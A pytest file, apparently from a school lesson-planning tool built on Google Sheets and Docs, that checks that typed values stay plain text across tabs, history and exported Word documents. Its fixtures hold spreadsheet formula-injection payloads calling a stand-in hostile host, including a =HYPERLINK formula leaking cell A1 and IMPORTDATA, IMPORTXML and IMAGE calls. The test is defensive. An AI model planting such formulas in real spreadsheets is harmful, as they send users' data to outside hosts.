"""What people type stays text wherever it goes: into other tabs, into Riwayat, into Google Docs and
their names."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest

from tests.google_emulator.drive.model import DOCUMENT
from tests.google_emulator.drive.text import text_of
from tests.races.ground import Ground
from tests.races.hands import RaceHands
from tests.races.inputs import type_in
from tests.support import texts
from tests.support.invariants import column_of, rows_of
from tests.terminal.desk import Desk

JAHAT = "https://jahat.example"
FORMULA = f'=HYPERLINK("{JAHAT}/?x="&A1;"klik")'
TEXTS = {
    "Upaya Mempelajari": (
        f'{FORMULA} <a href="{JAHAT}">klik</a> <img src="{JAHAT}/x.png"> [klik]({JAHAT})'
    ),
    "Kelas": "@SUM(1;2)",
    "Catatan KS": f'+IMPORTXML("{JAHAT}";"//a")',
}
SETTINGS = {"Nama Sekolah": f'=IMPORTDATA("{JAHAT}")', "Alamat": "-2+3", "Kota": "@Bandung"}
NAME = '=IMAGE("https://jahat.example/y.png")'
OURS = ("https://docs.google.com/", "https://wa.me/", "#gid=")
"""Documents, reminders, and places of the workbook itself."""


@pytest.mark.long
def test_nothing_that_was_typed_becomes_a_formula_a_link_or_a_picture(desk: Desk):
    people_type(desk.here)
    done = desk.sync()
    assert done.code == 0
    made = {document["kode"] for document in done.json["documents"]}
    assert made == {"G001", "G002", "G003"}
    history = desk.at_work("history", "G003", "--json").json["versions"]
    (number,) = (each["number"] for each in history if each["text"] == TEXTS["Upaya Mempelajari"])
    back = desk.at_work(
        "restore", "G003", "A", "Upaya Mempelajari", "--version", str(number), "--json", "--yes"
    )
    assert (back.code, back.json["cells"]) == (0, [])  # it stands there already
    assert desk.at_work("documents", "--recap", "--json").code == 0
    assert desk.at_work("documents", "--json").code == 0
    assert_cells_are_text(desk.here)
    assert_documents_are_text(desk.here)


def people_type(here: Ground) -> None:
    """As text, which a spreadsheet keeps as it is."""
    hands = RaceHands(here.google, here.id)
    for tab, key, cells in (
        *(("Pengaturan", name, {"Nilai": text}) for name, text in SETTINGS.items()),
        ("Guru", "G003", {"Nama": NAME}),
    ):
        found = here.workbook().read().tabs[tab]
        row = rows_of(found, key, "Nama" if tab == "Pengaturan" else "Kode")[0]
        for label, text in cells.items():
            hands.type(tab, row, column_of(found, label), text)
    type_in(here, "G003", "A", texts.done("A", "G003") | TEXTS)


def assert_cells_are_text(here: Ground) -> None:
    cells = list(all_cells(here))
    assert not [cell for cell in cells if "formulaValue" in cell.get("userEnteredValue", {})]
    links = [
        cell.get("userEnteredFormat", {}).get("textFormat", {}).get("link", {}).get("uri")
        for cell in cells
    ]
    assert not [link for link in links if link and not link.startswith(OURS)]
    shown = [cell.get("userEnteredValue", {}).get("stringValue", "") for cell in cells]
    for text in (NAME, *TEXTS.values()):
        assert sum(text in each for each in shown) > 1, (
            f"typed once, and copied at least to Riwayat: {text}"
        )


def all_cells(here: Ground) -> Iterator[dict[str, Any]]:
    return (cell for sheet in here.book.sheets for row in sheet.rows for cell in row.values())


def assert_documents_are_text(here: Ground) -> None:
    docs = [each for each in here.drive.files.values() if each.mime_type == DOCUMENT]
    (mine,) = (
        each
        for each in docs
        if each.name.startswith("2026_A-Persiapan") and each.name.endswith("G003")
    )
    said = text_of(mine.content, mine.revisions[-1].media_type).replace("\xad", "")
    assert TEXTS["Upaya Mempelajari"] in said
    assert SETTINGS["Nama Sekolah"] in said
    for each in docs:
        with zipfile.ZipFile(io.BytesIO(each.content)) as word:
            parts = {name: word.read(name).decode("utf-8", "ignore") for name in word.namelist()}
        relations = "".join(content for name, content in parts.items() if name.endswith(".rels"))
        assert 'TargetMode="External"' not in relations
        assert "/hyperlink" not in relations
        assert "jahat" not in relations
